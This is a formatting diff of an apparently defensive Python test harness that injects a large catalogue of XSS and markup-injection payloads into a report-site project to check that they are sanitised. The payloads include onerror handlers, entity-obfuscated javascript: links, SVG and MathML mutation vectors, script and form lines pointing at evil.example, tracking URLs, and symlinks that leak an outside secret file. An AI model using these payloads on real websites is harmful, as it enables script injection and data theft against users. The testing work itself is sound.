@@ -68,8 +68,7 @@ class Case:
 
     def text(self) -> str:
         """The payload with its markers filled in."""
-        return (self.payload.replace("$P", P).replace("$Q", Q).replace("{T}", self.token)
-                .replace("{A}", self.anchor))
+        return self.payload.replace("$P", P).replace("$Q", Q).replace("{T}", self.token).replace("{A}", self.anchor)
 
     @property
     def secret(self) -> bytes:
@@ -110,9 +109,13 @@ ROSTER = [
     _c("name-escaped-pipe", "roster", ROSTER_NAME, 'Eve \\| <img src=x onerror="$P"> \\'),
     _c("affiliation-img-onerror", "roster", ROSTER_AFFILIATION, '<img src=x onerror="$P">'),
     _c("affiliation-link", "roster", ROSTER_AFFILIATION, "[Example Corp](javascript:void($Q))"),
-    _c("affiliation-close-table", "roster", ROSTER_AFFILIATION, '</td></tr></table><script>$P</script>'),
-    _c("affiliation-remote-style", "roster", ROSTER_AFFILIATION,
-       f'<span style="background:url({REMOTE}.png)">Example Corp</span>'),
+    _c("affiliation-close-table", "roster", ROSTER_AFFILIATION, "</td></tr></table><script>$P</script>"),
+    _c(
+        "affiliation-remote-style",
+        "roster",
+        ROSTER_AFFILIATION,
+        f'<span style="background:url({REMOTE}.png)">Example Corp</span>',
+    ),
 ]
 
 SETTINGS = [
@@ -145,22 +148,33 @@ ATTR_LIST = [
     _c("attr-emphasis-onmouseover", "attr_list", BODY, 'Some *text*{onmouseover="$P"} here.'),
     _c("attr-link-onclick", "attr_list", BODY, 'A [link](#{A}){onclick="$P"} here.'),
     _c("attr-heading-onclick", "attr_list", BODY, '### Sub-heading {onclick="$P" tabindex="0"}'),
-    _c("attr-paragraph-style-remote", "attr_list", BODY,
-       f'A paragraph.\n{{: style="background-image:url({REMOTE}.png)" }}'),
+    _c(
+        "attr-paragraph-style-remote",
+        "attr_list",
+        BODY,
+        f'A paragraph.\n{{: style="background-image:url({REMOTE}.png)" }}',
+    ),
     _c("attr-value-quotes", "attr_list", BODY, "Some *text*{title='a\" onmouseover=\"$P'} here."),
-    _c("attr-paragraph-autofocus", "attr_list", BODY,
-       'Focus lands here.\n{: onfocus="$P" tabindex="0" autofocus="autofocus" }'),
+    _c(
+        "attr-paragraph-autofocus",
+        "attr_list",
+        BODY,
+        'Focus lands here.\n{: onfocus="$P" tabindex="0" autofocus="autofocus" }',
+    ),
     _c("attr-link-href-override", "attr_list", BODY, 'A [link](#{A}){href="javascript:void($P)"} here.'),
-    _c("attr-image-src-override", "attr_list", BODY,
-       f'![A figure](../images/three-tracks.png){{src="{REMOTE}.png"}}'),
+    _c("attr-image-src-override", "attr_list", BODY, f'![A figure](../images/three-tracks.png){{src="{REMOTE}.png"}}'),
     _c("attr-image-srcset", "attr_list", BODY, f'![A figure](../images/three-tracks.png){{srcset="{REMOTE}.png 2x"}}'),
     _c("attr-list-item", "attr_list", BODY, '- first item\n- second item {: onmouseover="$P" }'),
     _c("attr-uppercase-name", "attr_list", BODY, 'Some *text*{ONMOUSEOVER="$P"} here.'),
     _c("attr-unquoted-value", "attr_list", BODY, "Some *text*{onmouseover=$Q} here."),
     _c("attr-table-cell", "attr_list", BODY, '| a | b |\n|---|---|\n| *c*{onmouseover="$P"} | d |'),
     _c("attr-footnote", "attr_list", BODY, 'A claim.[^{T}]\n\n[^{T}]: A *note*{onmouseover="$P"}.'),
-    _c("attr-protocol-relative-style", "attr_list", BODY,
-       'Some *text*{style="background:url(//tracker.example/{T}.png)"} here.'),
+    _c(
+        "attr-protocol-relative-style",
+        "attr_list",
+        BODY,
+        'Some *text*{style="background:url(//tracker.example/{T}.png)"} here.',
+    ),
     _c("attr-pointerenter-id", "attr_list", BODY, 'A paragraph.\n{: #{T}-p onpointerenter="$P" }'),
     _c("attr-heading-id-breakout", "attr_list", BODY, '### Heading {#{T}" onmouseover="$P}'),
     _c("attr-entity-in-handler", "attr_list", BODY, "Some *text*{onmouseover=\"&#119;indow.__pwned='{T}'\"} here."),
@@ -171,8 +185,9 @@ ATTR_LIST = [
 # The report's own cross-references: the text a writer gives a reference is written into a link.
 XREF = [
     _c("xref-text-html", "cross-references", BODY, 'See [[rec:help-desks|<img src=x onerror="$P">]].'),
-    _c("xref-text-link-breakout", "cross-references", BODY,
-       "See [[rec:help-desks|help](javascript:void($Q)) [desks]]."),
+    _c(
+        "xref-text-link-breakout", "cross-references", BODY, "See [[rec:help-desks|help](javascript:void($Q)) [desks]]."
+    ),
     _c("xref-attr-list", "cross-references", BODY, 'See [[rec:help-desks]]{onmouseover="$P"}.'),
     _c("xref-text-attr-list", "cross-references", BODY, 'See [[rec:help-desks|*desks*{onmouseover="$P"}]].'),
     _c("xref-in-heading", "cross-references", BODY, "### About [[rec:help-desks|&lt;img src=x onerror=$Q&gt;]]"),
@@ -181,45 +196,95 @@ XREF = [
 RAW_HTML = [
     _c("html-href-tab-entity", "raw HTML", BODY, '<a href="java&#x09;script:void($P)">x</a>'),
     _c("html-href-decimal-entity", "raw HTML", BODY, '<a href="&#106;avascript:void($P)">x</a>'),
-    _c("html-href-all-hex", "raw HTML", BODY,
-       '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;void($P)">x</a>'),
+    _c(
+        "html-href-all-hex",
+        "raw HTML",
+        BODY,
+        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;void($P)">x</a>',
+    ),
     _c("html-href-named-entities", "raw HTML", BODY, '<a href="jav&NewLine;ascript&colon;void($P)">x</a>'),
-    _c("html-href-no-semicolon", "raw HTML", BODY,
-       '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
-       '&#0000116&#0000058void($P)">x</a>'),
+    _c(
+        "html-href-no-semicolon",
+        "raw HTML",
+        BODY,
+        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
+        '&#0000116&#0000058void($P)">x</a>',
+    ),
     _c("html-href-leading-space", "raw HTML", BODY, '<a href=" javascript:void($P)">x</a>'),
     _c("html-href-control-char", "raw HTML", BODY, '<a href="\x01javascript:void($P)">x</a>'),
     _c("html-href-mixed-case", "raw HTML", BODY, '<a href="JaVaScRiPt:void($P)">x</a>'),
     _c("html-href-raw-newline", "raw HTML", BODY, '<a href="java\nscript:void($P)">x</a>'),
     _c("html-href-raw-tab", "raw HTML", BODY, '<a href="java\tscript:void($P)">x</a>'),
-    _c("html-href-data", "raw HTML", BODY,
-       '<a href="data:text/html,%3Cscript%3Eopener.__pwned=%27{T}%27%3C/script%3E">x</a>'),
+    _c(
+        "html-href-data",
+        "raw HTML",
+        BODY,
+        '<a href="data:text/html,%3Cscript%3Eopener.__pwned=%27{T}%27%3C/script%3E">x</a>',
+    ),
     _c("html-href-vbscript", "raw HTML", BODY, "<a href=\"vbscript:msgbox('{T}')\">x</a>"),
-    _c("html-noscript-mutation", "raw HTML", BODY,
-       '<noscript><p title="</noscript><img src=x onerror=$Q>"></noscript>', greedy=True),
+    _c(
+        "html-noscript-mutation",
+        "raw HTML",
+        BODY,
+        '<noscript><p title="</noscript><img src=x onerror=$Q>"></noscript>',
+        greedy=True,
+    ),
     _c("html-style-content", "raw HTML", BODY, "<style><img src=x onerror=$Q></style>", greedy=True),
     _c("html-style-import", "raw HTML", BODY, f"<style>@import url({REMOTE}.css);</style>", greedy=True),
     _c("html-title-content", "raw HTML", BODY, "<title><img src=x onerror=$Q></title>", greedy=True),
-    _c("html-textarea-mutation", "raw HTML", BODY,
-       '<textarea><p title="</textarea><img src=x onerror=$Q>"></textarea>', greedy=True),
+    _c(
+        "html-textarea-mutation",
+        "raw HTML",
+        BODY,
+        '<textarea><p title="</textarea><img src=x onerror=$Q>"></textarea>',
+        greedy=True,
+    ),
     _c("html-template-content", "raw HTML", BODY, "<template><img src=x onerror=$Q></template>", greedy=True),
     _c("html-xmp-content", "raw HTML", BODY, "<xmp><img src=x onerror=$Q></xmp>", greedy=True),
     _c("html-svg-script", "raw HTML", BODY, "<svg><script>$P</script></svg>", greedy=True),
-    _c("html-svg-animate-onbegin", "raw HTML", BODY,
-       '<svg><animate onbegin="$P" attributeName="x" dur="1s"/></svg>', greedy=True),
+    _c(
+        "html-svg-animate-onbegin",
+        "raw HTML",
+        BODY,
+        '<svg><animate onbegin="$P" attributeName="x" dur="1s"/></svg>',
+        greedy=True,
+    ),
     _c("html-svg-onload", "raw HTML", BODY, '<svg onload="$P"></svg>', greedy=True),
-    _c("html-svg-xlink-href", "raw HTML", BODY,
-       '<svg><a xlink:href="javascript:void($P)"><text x="0" y="15">x</text></a></svg>', greedy=True),
-    _c("html-svg-set-href", "raw HTML", BODY,
-       '<svg><a><set attributeName="href" to="javascript:void($P)"/><text y="15">x</text></a></svg>',
-       greedy=True),
-    _c("html-svg-style-import", "raw HTML", BODY,
-       "<svg><style>@import url(//tracker.example/{T}.css);</style></svg>", greedy=True),
-    _c("html-math-mglyph-style", "raw HTML", BODY,
-       "<math><mtext><table><mglyph><style><img src=x onerror=$Q></style></mglyph></table></mtext></math>",
-       greedy=True),
-    _c("html-math-xlink-href", "raw HTML", BODY, '<math><mi xlink:href="javascript:void($P)">x</mi></math>',
-       greedy=True),
+    _c(
+        "html-svg-xlink-href",
+        "raw HTML",
+        BODY,
+        '<svg><a xlink:href="javascript:void($P)"><text x="0" y="15">x</text></a></svg>',
+        greedy=True,
+    ),
+    _c(
+        "html-svg-set-href",
+        "raw HTML",
+        BODY,
+        '<svg><a><set attributeName="href" to="javascript:void($P)"/><text y="15">x</text></a></svg>',
+        greedy=True,
+    ),
+    _c(
+        "html-svg-style-import",
+        "raw HTML",
+        BODY,
+        "<svg><style>@import url(//tracker.example/{T}.css);</style></svg>",
+        greedy=True,
+    ),
+    _c(
+        "html-math-mglyph-style",
+        "raw HTML",
+        BODY,
+        "<math><mtext><table><mglyph><style><img src=x onerror=$Q></style></mglyph></table></mtext></math>",
+        greedy=True,
+    ),
+    _c(
+        "html-math-xlink-href",
+        "raw HTML",
+        BODY,
+        '<math><mi xlink:href="javascript:void($P)">x</mi></math>',
+        greedy=True,
+    ),
     _c("html-comment-abrupt", "raw HTML", BODY, '<!--><img src=x onerror="$P">-->', greedy=True),
     _c("html-comment-bang-close", "raw HTML", BODY, '<!-- a --!><img src=x onerror="$P"> -->', greedy=True),
     _c("html-comment-unclosed", "raw HTML", BODY, '<!-- a note\n\n<img src=x onerror="$P">', greedy=True),
@@ -228,23 +293,43 @@ RAW_HTML = [
     _c("html-img-unquoted", "raw HTML", BODY, "<img src=x onerror=$Q>"),
     _c("html-img-slashes", "raw HTML", BODY, "<img/src=x/onerror=$Q>"),
     _c("html-img-entity-handler", "raw HTML", BODY, "<img src=x onerror=\"&#x77;indow.__pwned='{T}'\">"),
-    _c("html-details-ontoggle", "raw HTML", BODY,
-       '<details open ontoggle="$P"><summary>More</summary>Text.</details>'),
-    _c("html-object-data", "raw HTML", BODY,
-       '<object data="data:text/html,%3Cscript%3Eparent.__pwned=%27{T}%27%3C/script%3E"></object>'),
+    _c("html-details-ontoggle", "raw HTML", BODY, '<details open ontoggle="$P"><summary>More</summary>Text.</details>'),
+    _c(
+        "html-object-data",
+        "raw HTML",
+        BODY,
+        '<object data="data:text/html,%3Cscript%3Eparent.__pwned=%27{T}%27%3C/script%3E"></object>',
+    ),
     _c("html-embed-remote", "raw HTML", BODY, f'<embed src="{REMOTE}.swf">'),
-    _c("html-meta-refresh", "raw HTML", BODY,
-       '<meta http-equiv="refresh" content="0;url=https://evil.example/{T}">', alone=True),
+    _c(
+        "html-meta-refresh",
+        "raw HTML",
+        BODY,
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/{T}">',
+        alone=True,
+    ),
     _c("html-base-href", "raw HTML", BODY, '<base href="https://evil.example/{T}/">', alone=True),
-    _c("html-form-action", "raw HTML", BODY,
-       '<form action="https://evil.example/{T}"><input name="q"><button>Send</button></form>'),
-    _c("html-iframe-srcdoc", "raw HTML", BODY,
-       '<iframe srcdoc="<img src=x onerror=parent.__pwned=/{T}/.source>"></iframe>'),
+    _c(
+        "html-form-action",
+        "raw HTML",
+        BODY,
+        '<form action="https://evil.example/{T}"><input name="q"><button>Send</button></form>',
+    ),
+    _c(
+        "html-iframe-srcdoc",
+        "raw HTML",
+        BODY,
+        '<iframe srcdoc="<img src=x onerror=parent.__pwned=/{T}/.source>"></iframe>',
+    ),
     _c("html-link-import", "raw HTML", BODY, '<link rel="import" href="https://evil.example/{T}.html">'),
     _c("html-link-stylesheet", "raw HTML", BODY, f'<link rel="stylesheet" href="{REMOTE}.css">'),
     _c("html-style-attribute", "raw HTML", BODY, f'<p style="background:url({REMOTE}.png)">Styled.</p>'),
-    _c("html-style-attribute-entities", "raw HTML", BODY,
-       f'<p style="background-image: url(&quot;{REMOTE}.png&quot;)">Styled.</p>'),
+    _c(
+        "html-style-attribute-entities",
+        "raw HTML",
+        BODY,
+        f'<p style="background-image: url(&quot;{REMOTE}.png&quot;)">Styled.</p>',
+    ),
     _c("html-img-protocol-relative", "raw HTML", BODY, '<img src="//tracker.example/{T}.png" alt="pixel">'),
     _c("html-img-backslashes", "raw HTML", BODY, '<img src="\\\\tracker.example\\{T}.png" alt="pixel">'),
     _c("html-img-srcset", "raw HTML", BODY, f'<img srcset="{REMOTE}.png 1x" alt="pixel">'),
@@ -257,8 +342,12 @@ RAW_HTML = [
     _c("html-anchor-onclick", "raw HTML", BODY, '<a href="#{A}" onclick="$P">x</a>'),
     _c("html-script-remote", "raw HTML", BODY, '<script src="//evil.example/{T}.js"></script>'),
     _c("html-script-inline", "raw HTML", BODY, "<script>$P</script>"),
-    _c("html-button-formaction", "raw HTML", BODY,
-       '<form><button formaction="javascript:void($P)">Send</button></form>'),
+    _c(
+        "html-button-formaction",
+        "raw HTML",
+        BODY,
+        '<form><button formaction="javascript:void($P)">Send</button></form>',
+    ),
     _c("html-table-cell", "raw HTML", BODY, '| a | b |\n|---|---|\n| <img src=x onerror="$P"> | d |'),
     _c("html-footnote", "raw HTML", BODY, 'A claim.[^{T}]\n\n[^{T}]: <img src=x onerror="$P">'),
     _c("html-admonition-title", "raw HTML", BODY, '!!! note "<img src=x onerror=$Q>"\n    Body of the note.'),
@@ -277,8 +366,7 @@ LINKS = [
     _c("link-reference-collapsed", "links", BODY, "A [{T} link][].\n\n[{T} link]: javascript:void($P)"),
     _c("link-reference-shortcut", "links", BODY, "A [{T}x].\n\n[{T}x]: javascript:void($P)"),
     _c("link-reference-in-list", "links", BODY, "- An [item][{T}].\n\n    [{T}]: javascript:void($P)"),
-    _c("link-reference-title-quotes", "links", BODY,
-       "A [link][{T}].\n\n[{T}]: #{A} 'a\" onmouseover=\"$P'"),
+    _c("link-reference-title-quotes", "links", BODY, "A [link][{T}].\n\n[{T}]: #{A} 'a\" onmouseover=\"$P'"),
     _c("link-in-footnote", "links", BODY, "A claim.[^{T}]\n\n[^{T}]: See [this](javascript:void($Q))."),
     _c("link-text-spans-lines", "links", BODY, "A [link that\nspans lines](javascript:void($Q))."),
     _c("link-nested-brackets", "links", BODY, "A [a [b [c]]](javascript:void($Q))."),
@@ -293,27 +381,34 @@ LINKS = [
     _c("link-angle-target", "links", BODY, "A [link](<javascript:void($Q)>)."),
     _c("link-leading-space", "links", BODY, "A [link]( javascript:void($Q))."),
     _c("link-target-next-line", "links", BODY, "A [link](\njavascript:void($Q))."),
-    _c("link-data-url", "links", BODY,
-       "A [link](data:text/html,%3Cscript%3Eopener.__pwned=%27{T}%27%3C/script%3E)."),
+    _c("link-data-url", "links", BODY, "A [link](data:text/html,%3Cscript%3Eopener.__pwned=%27{T}%27%3C/script%3E)."),
     _c("link-vbscript", "links", BODY, "A [link](vbscript:msgbox(%22{T}%22))."),
     _c("link-uppercase", "links", BODY, "A [link](JAVASCRIPT:void($Q))."),
     _c("link-with-title", "links", BODY, 'A [link](javascript:void($Q) "A title").'),
     _c("link-comment-newline", "links", BODY, "A [link](javascript://x%0Avoid($P))."),
-    _c("link-data-image", "links", BODY,
-       "![A figure](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22{T}%22/%3E)"),
+    _c(
+        "link-data-image",
+        "links",
+        BODY,
+        "![A figure](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22{T}%22/%3E)",
+    ),
 ]
 
 HEADINGS = [
     _c("heading-entities", "headings and TOC", BODY, "### &lt;img src=x onerror=$Q&gt;"),
     _c("heading-numeric-entities", "headings and TOC", BODY, "### &#60;img src=x onerror=$Q&#62;"),
     _c("heading-toc-label", "headings and TOC", BODY, '### Heading {data-toc-label="<img src=x onerror=$Q>"}'),
-    _c("heading-toc-label-entities", "headings and TOC", BODY,
-       '### Heading {data-toc-label="&lt;img src=x onerror=$Q&gt;"}'),
+    _c(
+        "heading-toc-label-entities",
+        "headings and TOC",
+        BODY,
+        '### Heading {data-toc-label="&lt;img src=x onerror=$Q&gt;"}',
+    ),
     _c("heading-code-span", "headings and TOC", BODY, "### Code `<img src=x onerror=$Q>`"),
     _c("heading-raw-html", "headings and TOC", BODY, '### Heading <img src=x onerror="$P">'),
     _c("heading-setext", "headings and TOC", BODY, 'Heading <img src=x onerror="$P">\n-------'),
     _c("heading-svg", "headings and TOC", BODY, "### <svg onload=$Q>", greedy=True),
-    _c("heading-entity-attribute-breakout", "headings and TOC", BODY, '### a&quot; onmouseover=&quot;$P'),
+    _c("heading-entity-attribute-breakout", "headings and TOC", BODY, "### a&quot; onmouseover=&quot;$P"),
 ]
 
 REMOTE_RESOURCES = [
@@ -328,39 +423,73 @@ REMOTE_RESOURCES = [
 FILES = [
     _c("file-name-attribute-breakout", "file names", FILE_NAME, 'x" onmouseover="$P" y="'),
     _c("file-name-tag", "file names", FILE_NAME, '<img src=x onerror="$P">'),
-    _c("images-svg-script", "images", IMAGE_FILE,
-       '<svg xmlns="http://www.w3.org/2000/svg" onload="$P"><script>$P</script></svg>', path="figure-{T}.svg"),
+    _c(
+        "images-svg-script",
+        "images",
+        IMAGE_FILE,
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="$P"><script>$P</script></svg>',
+        path="figure-{T}.svg",
+    ),
     _c("images-html-page", "images", IMAGE_FILE, "<script>$P</script>", path="figure-{T}.html"),
     _c("images-symlink", "images", IMAGE_LINK, "", path="leak-{T}.png"),
 ]
 
 WEB = [
     _c("home-script-and-img", "web", WEB_INDEX, '<script>$P</script>\n\n<img src=x onerror="$P">'),
-    _c("home-markdown", "web", WEB_INDEX,
-       'See [this][{T}] and *that*{onmouseover="$P"}.\n\n[{T}]: javascript:void($P)'),
+    _c(
+        "home-markdown", "web", WEB_INDEX, 'See [this][{T}] and *that*{onmouseover="$P"}.\n\n[{T}]: javascript:void($P)'
+    ),
     _c("web-html-page", "web", WEB_FILE, "<!doctype html><title>x</title><script>$P</script>", path="evil.html"),
     _c("web-htm-page", "web", WEB_FILE, '<img src=x onerror="$P">', path="notes/evil.htm"),
-    _c("web-xhtml-page", "web", WEB_FILE,
-       '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>$P</script></body></html>',
-       path="evil.xhtml"),
-    _c("web-svg", "web", WEB_FILE,
-       '<svg xmlns="http://www.w3.org/2000/svg" onload="$P"><script>$P</script></svg>', path="x.svg"),
+    _c(
+        "web-xhtml-page",
+        "web",
+        WEB_FILE,
+        '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>$P</script></body></html>',
+        path="evil.xhtml",
+    ),
+    _c(
+        "web-svg",
+        "web",
+        WEB_FILE,
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="$P"><script>$P</script></svg>',
+        path="x.svg",
+    ),
     _c("web-js", "web", WEB_FILE, "$P;", path="assets/x.js"),
     _c("web-js-in-theme-folder", "web", WEB_FILE, "$P;", path="assets/javascripts/extra.js"),
     _c("web-css-stray-remote", "web", WEB_FILE, f"body {{ background: url({REMOTE}.png); }}", path="assets/stray.css"),
     _c("web-css-import", "web", WEB_CSS, f"@import url({REMOTE}.css);"),
     _c("web-css-background", "web", WEB_CSS, 'body { background-image: url("//tracker.example/{T}.png"); }'),
-    _c("web-css-font-face", "web", WEB_CSS,
-       "@font-face { font-family: hs; src: url(https://tracker.example/{T}.woff2); } body { font-family: hs; }"),
+    _c(
+        "web-css-font-face",
+        "web",
+        WEB_CSS,
+        "@font-face { font-family: hs; src: url(https://tracker.example/{T}.woff2); } body { font-family: hs; }",
+    ),
     _c("web-symlink-file", "web", WEB_LINK, "", path="leak.txt"),
     _c("web-symlink-css", "web", WEB_LINK, "", path="assets/leak.css"),
     _c("web-symlink-folder", "web", WEB_LINK_DIR, "", path="outside"),
     _c("web-symlink-dangling", "web", WEB_LINK_DANGLING, "", path="gone.txt"),
 ]
 
-CASES: list[Case] = [replace(case, token=f"pwn{i:03d}") for i, case in enumerate(
-    FRONT_MATTER + ROSTER + SETTINGS + GIT + ATTR_LIST + XREF + RAW_HTML + LINKS + HEADINGS + REMOTE_RESOURCES
-    + FILES + WEB, 1)]
+CASES: list[Case] = [
+    replace(case, token=f"pwn{i:03d}")
+    for i, case in enumerate(
+        FRONT_MATTER
+        + ROSTER
+        + SETTINGS
+        + GIT
+        + ATTR_LIST
+        + XREF
+        + RAW_HTML
+        + LINKS
+        + HEADINGS
+        + REMOTE_RESOURCES
+        + FILES
+        + WEB,
+        1,
+    )
+]
 BY_NAME = {case.name: case for case in CASES}
 assert len(BY_NAME) == len(CASES), "case names must be unique"
 
@@ -368,6 +497,7 @@ assert len(BY_NAME) == len(CASES), "case names must be unique"
 # --------------------------------------------------------------------------------------------
 # Where each case goes
 # --------------------------------------------------------------------------------------------
+
 
 @dataclass(frozen=True)
 class Target:
@@ -396,8 +526,11 @@ SETTINGS_FILE, ROSTER_FILE, HOME, SITE_CSS = "report.yml", "roster.yml", "web/in
 def documents(root: Path) -> list[str]:
     """The sample's documents in the order cases take them: recommendations first (their titles
     and owners also reach the recommendations index), then chapters and annexes."""
-    return [p.relative_to(root).as_posix() for folder in ("recommendations", "chapters", "annexes")
-            for p in sorted((root / folder).glob("*.md"))]
+    return [
+        p.relative_to(root).as_posix()
+        for folder in ("recommendations", "chapters", "annexes")
+        for p in sorted((root / folder).glob("*.md"))
+    ]
 
 
 def _is_roster_annex(root: Path, doc: str) -> bool:
@@ -457,6 +590,7 @@ def plan(root: Path, cases: list[Case] = CASES) -> dict[str, Target]:
 # Writing a case into a report
 # --------------------------------------------------------------------------------------------
 
+
 def _lines(text: str) -> int:
     return text.count("\n") + (0 if text.endswith("\n") or not text else 1)
 
@@ -478,7 +612,7 @@ def _set_key(path: Path, key: str, value: str, indent: str = "") -> int:
     pattern = re.compile(rf"^{re.escape(indent)}{re.escape(key)}:.*$", re.MULTILINE)
     match = pattern.search(text)
     assert match, f"{path} has no {indent}{key}:"
-    path.write_text(text[: match.start()] + f"{indent}{key}: {json.dumps(value)}" + text[match.end():], "utf-8")
+    path.write_text(text[: match.start()] + f"{indent}{key}: {json.dumps(value)}" + text[match.end() :], "utf-8")
     return text.count("\n", 0, match.start()) + 1
 
 
@@ -503,8 +637,11 @@ def apply(root: Path, case: Case, target: Target, payload: str | None = None) ->
     if w in (ROSTER_NAME, ROSTER_AFFILIATION):
         name = text if w == ROSTER_NAME else f"Member {case.token}"
         affiliation = text if w == ROSTER_AFFILIATION else "Example University"
-        first, last = _append(path, f"  - id: {case.token}\n    name: {json.dumps(name)}\n    role: member\n"
-                                    f"    affiliation: {json.dumps(affiliation)}\n")
+        first, last = _append(
+            path,
+            f"  - id: {case.token}\n    name: {json.dumps(name)}\n    role: member\n"
+            f"    affiliation: {json.dumps(affiliation)}\n",
+        )
         _set_key(root / target.host, "owner", case.token)
         return Written(target.file, first, last, False)
     if w == SET_TITLE:
@@ -515,8 +652,11 @@ def apply(root: Path, case: Case, target: Target, payload: str | None = None) ->
         line = _set_key(path, key, text)
         return Written(target.file, line, line, False)
     if w == FILE_NAME:
-        path.write_text(f"---\nid: named-{case.token}\ntitle: Case {case.token[3:]}\nowner: secretariat\n"
-                        "status: draft\n---\n\nA chapter with an unusual file name.\n", "utf-8")
+        path.write_text(
+            f"---\nid: named-{case.token}\ntitle: Case {case.token[3:]}\nowner: secretariat\n"
+            "status: draft\n---\n\nA chapter with an unusual file name.\n",
+            "utf-8",
+        )
         return Written(target.file, 0, 0, True)
     if w == GIT_AUTHOR:
         _append(root / target.host, f"A sentence edited by a contributor ({case.token[3:]}).")
@@ -539,8 +679,9 @@ def _apply_web(root: Path, case: Case, target: Target, text: str) -> Written:
     if case.where == IMAGE_FILE:  # an SVG figure may be published, if harmless; an HTML page may not
         path.write_text(text, "utf-8")
         site = target.file
-        return Written(target.file, 0, 0, True, site_files=(site,),
-                       forbidden=(site,) if not site.endswith(".svg") else ())
+        return Written(
+            target.file, 0, 0, True, site_files=(site,), forbidden=(site,) if not site.endswith(".svg") else ()
+        )
     outside = root.parent / f"outside-{root.name}-{case.token}"
     outside.mkdir(exist_ok=True)
     (outside / "secret.txt").write_bytes(case.secret)
